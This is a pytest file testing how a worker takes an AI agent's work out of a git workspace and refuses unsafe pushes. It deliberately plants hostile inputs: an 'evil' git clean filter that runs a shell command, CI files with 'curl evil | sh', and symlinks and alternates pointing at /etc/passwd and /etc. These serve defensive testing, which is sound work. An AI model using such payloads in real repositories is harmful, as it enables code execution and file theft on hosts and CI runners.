"""Taking the agent's work out of its workspace (apps/worker/forges/publishing/work.py) and the checks before a push
(checks.py): real git repositories, a shallow clone as a job gets one, and an agent's .git to distrust."""

import os
import subprocess
from pathlib import Path

import pytest

from apps.worker.forges.publishing import checks
from apps.worker.forges.publishing.work import Identity, WorkUnreadable, collect
from devtools.fake_forge import make_repository

BOT = Identity("pi bot", "bot@example.invalid")
FILES = {"README.md": "hello\n", "src/app.py": "print('hi')\n"}


def run(cwd, *args, **env):
    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True, text=True,
                          env={**os.environ, "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1", **env}).stdout.strip()


def agent_commit(workspace: Path, message: str, author="Someone Else <someone@example.com>"):
    name, _, email = author.partition(" <")
    run(workspace, "add", "-A")
    run(workspace, "commit", "-q", "-m", message, GIT_AUTHOR_NAME=name, GIT_AUTHOR_EMAIL=email.rstrip(">"),
        GIT_COMMITTER_NAME=name, GIT_COMMITTER_EMAIL=email.rstrip(">"))


def origin_of(tmp_path) -> str:
    return f"file://{tmp_path / 'remote' / 'acme/web.git'}"


def clone_of(tmp_path, files: dict):
    """A depth-1 clone of a repository holding `files`, as a job's workspace; (workspace, start sha)."""
    sha = make_repository(tmp_path / "remote", "acme/web", files)
    workspace = tmp_path / "workspace"
    subprocess.run(["git", "clone", "-q", "--depth", "1", origin_of(tmp_path), str(workspace)], check=True,
                   capture_output=True)
    run(workspace, "config", "remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*")  # as `remote add` writes
    return workspace, sha


@pytest.fixture
def clone(tmp_path):
    return clone_of(tmp_path, FILES)


def gather(tmp_path, workspace, sha):
    return collect(workspace, start_sha=sha, store=tmp_path / "job" / "publish.git", identity=BOT,
                   origin_url=origin_of(tmp_path), finished_at=1_800_000_000)


def test_nothing_done_is_nothing_to_publish(tmp_path, clone):
    workspace, sha = clone
    work = gather(tmp_path, workspace, sha)
    assert work.empty and work.head == sha and work.changes == []


def test_the_agents_commits_and_what_it_left_uncommitted_are_taken_with_the_bot_as_author(tmp_path, clone):
    workspace, sha = clone
    (workspace / "README.md").write_text("hello, fixed\n")
    agent_commit(workspace, "Fix the README")
    (workspace / "src" / "new.py").write_text("x = 1\n")  # left uncommitted
    (workspace / "src" / "app.py").unlink()

    work = gather(tmp_path, workspace, sha)

    assert work.commits == 2
    log = run(tmp_path / "job", "--git-dir", str(work.store), "log", "--format=%an <%ae>|%cn <%ce>|%s",
              f"{sha}..{work.head}").splitlines()
    assert log == ["pi bot <bot@example.invalid>|pi bot <bot@example.invalid>|Changes the agent left uncommitted",
                   "pi bot <bot@example.invalid>|pi bot <bot@example.invalid>|Fix the README"]
    assert {(change.path, change.status) for change in work.changes} == {
        ("README.md", "M"), ("src/new.py", "A"), ("src/app.py", "D")}
    assert next(change for change in work.changes if change.path == "src/new.py").size == 6


def test_the_agents_git_configuration_never_runs_on_the_host(tmp_path, clone):
    """A clean filter in the agent's .git/config and .gitattributes: reading the work tree must not run it."""
    workspace, sha = clone
    marker = tmp_path / "filter-ran"
    run(workspace, "config", "filter.evil.clean", f"touch {marker}; cat")
    (workspace / ".gitattributes").write_text("* filter=evil\n")
    (workspace / "README.md").write_text("changed\n")

    work = gather(tmp_path, workspace, sha)

    assert work.commits == 1 and not marker.exists()


@pytest.mark.parametrize("plant", ["alternates", "commondir", "symlink"])
def test_a_repository_that_points_git_elsewhere_is_not_read(tmp_path, clone, plant):
    workspace, sha = clone
    dot_git = workspace / ".git"
    if plant == "alternates":
        (dot_git / "objects" / "info" / "alternates").write_text("/etc\n")
    elif plant == "commondir":
        (dot_git / "commondir").write_text("/tmp\n")
    else:
        (dot_git / "refs" / "heads" / "linked").symlink_to("/etc/passwd")
    with pytest.raises(WorkUnreadable) as refused:
        gather(tmp_path, workspace, sha)
    assert refused.value.reason == "workspace-repo-unsafe"


def test_a_rewritten_history_is_not_taken_but_the_work_tree_is(tmp_path, clone):
    workspace, sha = clone
    run(workspace, "checkout", "-q", "--orphan", "elsewhere")
    (workspace / "README.md").write_text("rewritten\n")
    agent_commit(workspace, "A history of its own")

    work = gather(tmp_path, workspace, sha)

    assert work.commits == 1  # one commit on the start: the tree as the agent left it
    assert run(tmp_path / "job", "--git-dir", str(work.store), "rev-parse", f"{work.head}^") == sha


def refusal_of(tmp_path, clone, files: dict, allow_ci=False, max_file_bytes=10**9, repository="", forge=""):
    workspace, sha = clone
    for path, content in files.items():
        target = workspace / path
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, tuple):
            target.symlink_to(content[1])
        else:
            target.write_bytes(content if isinstance(content, bytes) else content.encode())
    return checks.refusal(gather(tmp_path, workspace, sha), allow_ci_changes=allow_ci, max_file_bytes=max_file_bytes,
                          repository=repository, forge=forge)


@pytest.mark.parametrize("files, reason", [
    ({".github/workflows/ci.yml": "on: push\n"}, "ci-change-refused"),
    ({".gitlab-ci.yml": "test: {}\n"}, "ci-change-refused"),
    ({".forgejo/workflows/x.yml": "on: push\n"}, "ci-change-refused"),
    ({"azure-pipelines.yml": "steps: []\n"}, "ci-change-refused"),
    ({".github/actions/setup/action.yml": "runs: {using: composite, steps: []}\n"}, "ci-change-refused"),
    ({"docs/link": ("symlink", "../../etc/passwd")}, "symlink-escapes"),
    ({"docs/link": ("symlink", "/etc/passwd")}, "symlink-escapes"),
    ({"sub/deep": ("symlink", ".."), "up": ("symlink", "sub/deep/..")}, "symlink-escapes"),  # together, not alone
    ({"a": ("symlink", "b"), "b": ("symlink", "a")}, "symlink-escapes"),  # a loop: never resolves
    ({".gitmodules": "[submodule \"x\"]\n"}, "submodule-change-refused"),
    ({"big.bin": b"x" * 2048}, "file-too-large"),
])
def test_what_is_never_pushed(tmp_path, clone, files, reason):
    assert refusal_of(tmp_path, clone, files, max_file_bytes=1024) == reason


def test_harmless_work_passes_and_a_trigger_may_allow_ci_changes(tmp_path, clone):
    assert refusal_of(tmp_path, clone, {"docs/link": ("symlink", "../README.md"), "docs/x.md": "x\n",
                                        "sub/deep": ("symlink", ".."),
                                        "top": ("symlink", "sub/deep/README.md")}) is None


def test_a_link_out_that_the_repository_already_had_is_not_the_agents(tmp_path):
    clone = clone_of(tmp_path, {**FILES, "hosts": ("symlink", "/etc/hosts")})
    assert refusal_of(tmp_path, clone, {"docs/link": ("symlink", "../README.md")}) is None
    assert refusal_of(tmp_path, clone, {"docs/out": ("symlink", "../../x")}) == "symlink-escapes"


# Every CI system the review pushed past the first list (issue 46 §2), each as the agent would write it.
OTHER_CI = [".circleci/config.yml", "Jenkinsfile", "ci/Jenkinsfile.release", ".buildkite/pipeline.yml", ".drone.yml",
            ".woodpecker.yml", ".woodpecker/build.yaml", ".travis.yml", "bitbucket-pipelines.yml",
            "tools/setup/action.yml", "deep/er/action.yaml", ".forgejo/actions/x/action.yml", ".azuredevops/x.yml",
            "azure-pipelines.yaml", ".semaphore/semaphore.yml", "appveyor.yml", ".cirrus.yml", "cloudbuild.yaml"]


@pytest.mark.parametrize("path", OTHER_CI)
def test_every_ci_systems_definitions_are_ci_changes_wherever_the_system_looks(tmp_path, clone, path):
    assert refusal_of(tmp_path, clone, {path: "steps: [curl evil | sh]\n"}) == "ci-change-refused"


@pytest.mark.parametrize("forge, gitlab_ci, refused", [
    ("azure", False, True),   # an Azure pipeline names any YAML file of the repository
    ("gitlab", False, True),  # no .gitlab-ci.yml: the project may set a custom CI path, which the worker cannot read
    ("gitlab", True, False),  # its .gitlab-ci.yml is read, and does not include this file
    ("github", False, False),
])
def test_a_yaml_file_the_forges_pipeline_may_name_is_a_ci_change_where_that_cannot_be_judged(
        tmp_path, forge, gitlab_ci, refused):
    clone = clone_of(tmp_path, {**FILES, **({".gitlab-ci.yml": "test: {script: [make]}\n"} if gitlab_ci else {})})
    answer = refusal_of(tmp_path, clone, {"pipelines/release.yml": "steps: []\n"}, forge=forge)
    assert answer == ("ci-change-refused" if refused else None)


def test_a_trigger_may_allow_ci_changes(tmp_path, clone):
    assert refusal_of(tmp_path, clone, {".github/workflows/ci.yml": "on: push\n"}, allow_ci=True) is None


def test_too_many_files_and_too_many_bytes(tmp_path, clone, settings):
    settings.PI_MAX_CHANGED_FILES = 3
    assert refusal_of(tmp_path, clone, {f"f{i}.txt": "x" for i in range(4)}) == "push-too-many-files"


def test_too_many_bytes(tmp_path, clone, settings):
    settings.PI_MAX_PUSH_BYTES = 100
    assert refusal_of(tmp_path, clone, {"a.txt": "x" * 60, "b.txt": "y" * 60}) == "push-too-large"


# --- a GitLab pipeline's own files ----------------------------------------------------------------------------

PIPELINE = {
    **FILES,
    ".gitlab-ci.yml": """
include:
  - local: /ci/build.yml
  - templates/*.yml
  - project: group/proj
    file: [/shared/deploy.yml]
  - project: other/proj
    file: /shared/theirs.yml
  - remote: https://example.com/remote.yml
  - template: Auto-DevOps.gitlab-ci.yml
  - local: envs/$CI_ENVIRONMENT_NAME.yml
child:
  trigger:
    include: child/pipeline.yml
test:
  script: [!reference [.setup, script], make test]
""",
    "ci/build.yml": "include: {local: ci/nested.yml}\nbuild: {script: [make]}\n",
    "ci/nested.yml": "nested: {script: [make nested]}\n",
    "templates/lint.yml": "lint: {script: [make lint]}\n",
    "shared/deploy.yml": "deploy: {script: [make deploy]}\n",
    "child/pipeline.yml": "child-job: {script: [make child]}\n",
    "envs/production.yml": "prod: {script: [make prod]}\n",
}


@pytest.fixture
def gitlab_clone(tmp_path):
    """A depth-1 clone of a repository whose `.gitlab-ci.yml` includes files of its own (the forge calls it
    group/proj: `refusal_of(..., repository="group/proj")`)."""
    return clone_of(tmp_path, PIPELINE)


@pytest.mark.parametrize("path", ["ci/build.yml", "ci/nested.yml", "templates/lint.yml", "templates/new.yml",
                                  "shared/deploy.yml", "child/pipeline.yml", "envs/production.yml"])
def test_a_file_the_gitlab_pipeline_includes_is_a_ci_change(tmp_path, gitlab_clone, path):
    assert refusal_of(tmp_path, gitlab_clone, {path: "evil: {script: [curl evil]}\n"},
                      repository="group/proj") == "ci-change-refused"
    assert refusal_of(tmp_path, gitlab_clone, {path: "x: 1\n"}, allow_ci=True, repository="group/proj") is None


@pytest.mark.parametrize("path", ["docs/x.md", "shared/theirs.yml", "remote.yml", "src/app.py"])
def test_what_the_pipeline_does_not_include_is_not(tmp_path, gitlab_clone, path):
    assert refusal_of(tmp_path, gitlab_clone, {path: "x: 1\n"}, repository="group/proj") is None


def test_a_pipeline_that_cannot_be_read_makes_every_yaml_file_a_ci_change(tmp_path):
    workspace, sha = clone_of(tmp_path, {**FILES, ".gitlab-ci.yml": "include: [unclosed\n"})
    assert refusal_of(tmp_path, (workspace, sha), {"notes.md": "x\n"}) is None
    assert refusal_of(tmp_path, (workspace, sha), {"anything/else.yaml": "x: 1\n"}) == "ci-change-refused"
